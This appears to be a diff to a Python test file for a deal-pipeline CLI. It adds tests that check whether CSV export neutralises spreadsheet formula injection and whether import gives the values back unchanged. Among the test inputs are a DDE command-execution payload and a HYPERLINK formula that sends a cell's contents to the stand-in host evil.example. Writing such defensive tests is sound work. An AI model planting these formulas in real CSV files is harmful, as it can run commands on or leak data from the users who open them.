@@ -292,6 +292,74 @@ def test_csv_export_then_import_gives_the_same_deals_on_what_csv_holds(
     run_property(two, generated, "csv", {"created": dt.date(2026, 1, 1)})
 
 
+# --- formulas in CSV (issue 18): a safe export defuses them, import gives them back --------
+
+FORMULA_TEXT = st.tuples(
+    st.sampled_from(["=", "+", "-", "@", "\t", "'", "''", "'=", "'+", "'a", "'-", "'@"]),
+    st.text(st.characters(blacklist_categories=("Cs",)), max_size=12),
+).map("".join)
+FORMULA_VALUES = st.one_of(FORMULA_TEXT.filter(_csv_holds_text), CSV_VALUES)
+
+
+def _run_csv(two: Any, generated: dict[str, Any], out_name: str | None, *flags: str) -> str:
+    """export (to a file, or stdout), import; the deals must come back exactly."""
+    src_root, src, dst_root, dst, tmp = two
+    for root in (src_root, dst_root):
+        for stage in STAGES:
+            shutil.rmtree(root / stage, ignore_errors=True)
+            (root / stage).mkdir()
+    for deal_id, (stage, fields, body) in generated.items():
+        put(src_root, stage, deal_id, deal_text({"created": dt.date(2026, 1, 1), **fields}, body))
+    before = read_deals(src_root)
+    out = tmp / (out_name or "piped.txt")
+    if out_name is None:
+        exported = src("export", "--format", "csv", *flags)
+        out.write_text(exported.stdout, encoding="utf-8")
+    else:
+        exported = src("export", "--format", "csv", "-o", str(out), *flags)
+    assert exported.exit_code == 0, exported.output
+    imported = dst("import", str(out), "--no-commit")
+    assert imported.exit_code == 0, imported.output
+    assert same_deals(read_deals(dst_root), before)
+    return out.read_text("utf-8")
+
+
+@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(generated=deals(FORMULA_VALUES, BODIES | FORMULA_TEXT))
+@example(generated={"d": ("prospecting", {"x_a": "'=1+1"}, "'")})
+@example(generated={"d": ("prospecting", {"x_a": "''"}, "=cmd|' /C calc'!A0")})
+def test_formula_cells_come_back_exactly_safe_or_not(two: Any, generated: Any) -> None:
+    import csv
+    import io
+
+    written = _run_csv(two, generated, "deals.csv")  # a .csv file: safe by default
+    rows = list(csv.reader(io.StringIO(written)))
+    for row in rows[1:]:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+    _run_csv(two, generated, None)  # stdout: as it is, and still exact
+    _run_csv(two, generated, "deals.txt", "--safe-csv")
+
+
+def test_a_csv_file_is_safe_by_default_and_the_prefix_is_documented(tmp_path: Path) -> None:
+    root, cli = new_pipeline(tmp_path / "p")
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    put(root, "prospecting", "acme", deal_text({"created": dt.date(2026, 1, 1), "x_a": evil}, ""))
+    out = tmp_path / "deals.CSV"
+    assert cli("export", "-o", str(out)).exit_code == 0
+    assert "'=HYPERLINK(" in out.read_text("utf-8")
+    assert cli("export", "-o", str(out), "--no-safe-csv").exit_code == 0
+    assert "'=HYPERLINK(" not in out.read_text("utf-8") and "=HYPERLINK(" in out.read_text("utf-8")
+    raw = cli("export")
+    assert "'=" not in raw.stdout
+    # a CSV from elsewhere: --no-safe-csv keeps a leading ' that is the data's own
+    other = tmp_path / "other.csv"
+    other.write_text("id,stage,created,x_a\nb,prospecting,2026-01-01,'=1\n", encoding="utf-8")
+    assert cli("import", str(other), "--no-safe-csv", "--no-commit").exit_code == 0
+    assert "'=1" in (root / "prospecting" / "b.md").read_text("utf-8")
+    doc = (Path(__file__).resolve().parents[2] / "docs" / "import.md").read_text("utf-8")
+    assert "--safe-csv" in doc and "--no-safe-csv" in doc
+
+
 # --- several contacts per deal (issue 16): `contacts.N.PART` columns in CSV ---------------------
 
 CONTACT_TEXT = CSV_TEXT.filter(lambda s: s == s.strip() and "\n" not in s)
